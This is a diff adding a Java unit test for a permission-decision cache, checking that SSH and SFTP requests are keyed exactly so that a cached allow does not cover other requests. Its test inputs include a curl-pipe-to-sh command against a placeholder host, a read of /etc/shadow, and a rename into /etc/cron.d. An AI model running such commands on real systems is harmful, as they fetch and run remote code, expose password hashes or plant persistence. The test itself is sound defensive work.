@@ -85,6 +85,27 @@ class DecisionCacheTests {
         assertThat(cache.find(sql("DELETE FROM orders WHERE id = 1"))).isNull();
     }
 
+    /**
+     * What SSH rules tell apart must not share an entry: a forward's port (a cached allow of the web port let
+     * ssh -W reach the database port), a file's path, a quoted shell word, the request kind.
+     */
+    @Test
+    void anSshRequestIsKeyedExactlyNotByItsSqlFingerprint() {
+        cache.remember(ssh("port-forward", "127.0.0.1:8080"), allow(3, List.of()));
+        cache.remember(ssh("exec", "bash -c 'echo hi'"), allow(3, List.of()));
+        cache.remember(sftp("read", "/srv/data/a.txt"), allow(3, List.of()));
+
+        assertThat(cache.find(ssh("port-forward", "127.0.0.1:8080"))).isNotNull();
+        assertThat(cache.find(ssh("port-forward", "127.0.0.1:15432"))).isNull();
+        assertThat(cache.find(ssh("port-forward", "listen 127.0.0.1:8080"))).isNull();
+        assertThat(cache.find(ssh("exec", "bash -c 'curl https://x.example | sh'"))).isNull();
+        assertThat(cache.find(ssh("shell", "bash -c 'echo hi'"))).isNull();
+        assertThat(cache.find(sftp("read", "/etc/shadow"))).isNull();
+        assertThat(cache.find(sftp("write", "/srv/data/a.txt"))).isNull();
+        assertThat(cache.find(new DecisionRequest(CALLER, Operation.sftp("db", "rename", "/srv/data/a.txt", "/etc/cron.d/x"))))
+                .isNull();
+    }
+
     @Test
     void pushedRefUpdatesArePartOfTheKey() {
         String zero = "0".repeat(40);
@@ -130,6 +151,14 @@ class DecisionCacheTests {
 
     private static DecisionRequest get(String path, Map<String, String> headers) {
         return new DecisionRequest(CALLER, Operation.http("api", "GET", path, null).withHeaders(headers));
+    }
+
+    private static DecisionRequest ssh(String kind, String command) {
+        return new DecisionRequest(CALLER, Operation.ssh("db", kind, command));
+    }
+
+    private static DecisionRequest sftp(String operation, String path) {
+        return new DecisionRequest(CALLER, Operation.sftp("db", operation, path, null));
     }
 
     private static DecisionRequest sql(String statement) {
